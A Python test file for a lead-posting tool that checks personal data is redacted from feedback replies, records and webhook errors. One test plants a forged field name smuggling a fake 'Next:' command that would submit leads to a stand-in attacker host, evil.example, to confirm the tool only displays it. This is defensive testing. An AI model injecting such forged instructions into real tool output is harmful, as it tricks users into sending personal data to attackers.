"""What a flow, a records answer, an answer to feedback and a webhook may slip past the guards."""

import json
import ssl
from pathlib import Path
from typing import Any

import pytest
import trustme
from asking import event
from canaries import canaries, leaks
from faultserver import JSON, answer, fault_server
from submitting import bulkpost, path_of, table

from bulkpost.app.webhook import notify
from bulkpost.clock import SystemClock
from bulkpost.destination import parse_feedback_url
from bulkpost.endpoints.feedback import FeedbackEndpoint
from bulkpost.exchange import Reply
from bulkpost.feedback import Feedback, FeedbackType
from bulkpost.records.answers import read_events
from bulkpost.redact import scrub
from bulkpost.secret import Secret
from bulkpost.transport.settings import TransportSettings

_NAME = canaries(3)[0]
_WHERE = parse_feedback_url("https://app.leadconduit.com/feedback")
_RETURN = Feedback(1, _WHERE, "a" * 24, FeedbackType.RETURN, "wrong number")


def _xml(lead: str) -> str:
    return f"<result><outcome>failure</outcome><reason>not {_NAME}</reason>{lead}</result>"


def _repeated(inner: str) -> str:
    return f'{{"outcome": "failure", "reason": "not {_NAME}", "message": "not {_NAME}", {inner}}}'


@pytest.mark.parametrize("status", [201, 400, 404, 500])
@pytest.mark.parametrize(
    "body",
    [
        _xml(f'<lead first_name="{_NAME}"/>'),
        _xml(f'<lead id=""><name of="{_NAME}">she</name></lead>'),
        _xml(f"<lead>{_NAME}<id/></lead>"),
        _xml(f"<lead><id/> {_NAME} </lead>"),
        _repeated(f'"lead": {{"first_name": "{_NAME}"}}, "lead": {{}}'),
        _repeated(f'"shown": [{{"first_name": "{_NAME}", "first_name": "she"}}]'),
    ],
)
def test_t1_a_value_that_an_answer_to_feedback_shows_aside_is_taken_out(
    body: str, status: int
) -> None:
    """In an attribute, between two elements, under a name that comes again."""
    endpoint, reply = FeedbackEndpoint(), Reply(status, (), body.encode())
    asked, came = endpoint.evidence(endpoint.request(_RETURN), reply, _RETURN)

    told = json.dumps([asked, came]) + repr(endpoint.verdict(reply, _RETURN))
    assert _NAME not in told


def _deep(levels: int) -> Any:
    value: Any = _NAME
    for _ in range(levels):
        value = {"x": value}
    return value


@pytest.mark.parametrize(
    "more",
    [
        {"first_name": _NAME, **{f"field_{n}": f"text {n}" for n in range(5_000)}},
        {"x": _deep(20)},
        {"x": [[_deep(14)]]},
    ],
)
def test_t1_a_reason_is_not_kept_of_a_lead_that_cannot_be_looked_through(
    more: dict[str, Any],
) -> None:
    """It cannot be scrubbed of values that nobody looked at; all else of the event is believed."""
    lead = {"id": "c" * 24, **more}
    told = event(1, outcome="failure", reason=f"not {_NAME}", vars={"lead": lead})
    ((found,), _, _) = read_events(Reply(200, JSON, json.dumps([told]).encode()))

    assert found.reason is not None
    assert _NAME not in scrub(found.reason, found.texts)
    assert ("failure", "c" * 24) == (found.kind, found.lead_id)


def _meta(*names: str) -> bytes:
    params = [{"name": name, "type": "string", "required": True} for name in names]
    return json.dumps({"params": params, "flow": {"name": names[0]}}).encode()


async def test_t16_a_flow_cannot_forge_a_line_of_what_init_says(tmp_path: Path) -> None:
    """A command to run next, for instance: a line end in a field's name is shown, not obeyed."""
    leads = table(tmp_path / "leads.csv", ["email"], [["ada@example.net"]])
    forged = "x\nNext:  bulkpost submit leads.csv --url https://evil.example"
    async with fault_server(answer(200, _meta("email", forged))) as server:
        done = await bulkpost(
            *("init", leads, "--from-flow", "--url", server.url + path_of()), cwd=tmp_path
        )

    assert 0 == done.returncode, done.stderr
    lines = (done.stdout + done.stderr).decode().splitlines()
    assert 1 == sum(line.startswith("Next:") for line in lines), lines


async def test_t1_init_takes_no_lead_for_a_header_whoever_names_the_fields(tmp_path: Path) -> None:
    """A list of names without a header: nothing of its first row is written or shown."""
    home = tmp_path / "out"
    home.mkdir()
    rows = [canaries(row)[:2] for row in (1, 2, 3)]
    leads = table(tmp_path / "leads.csv", rows[0], rows[1:])
    async with fault_server(answer(200, _meta("first_name", "last_name"))) as server:
        done = await bulkpost(
            *("init", leads, "--from-flow", "--url", server.url + path_of()), cwd=home
        )

    assert 2 == done.returncode, done.stdout
    assert [] == leaks(home, done.stdout, done.stderr)


async def test_t8_the_host_of_a_webhook_is_not_told_when_it_is_away(tmp_path: Path) -> None:
    """Of some webhooks the host is the secret: neither where it is nor its certificate is told."""
    authority, tls = trustme.CA(), ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    authority.issue_cert("192.0.2.1").configure_cert(tls)
    authority.cert_pem.write_to_path(str(tmp_path / "ca.pem"))
    settings = TransportSettings(ca_file=str(tmp_path / "ca.pem"))
    away = await notify(Secret("http://127.0.0.1:9/"), {}, settings, SystemClock())
    async with fault_server(answer(200, b""), tls=tls) as server:
        wrong = await notify(Secret(f"{server.url}/hook"), {}, settings, SystemClock())

    assert server.url.startswith("https://127.0.0.1:")
    assert "it cannot be connected to (connection refused)." == away
    assert wrong is not None
    assert "not valid for '…'" in wrong
    assert "127.0.0.1" not in wrong
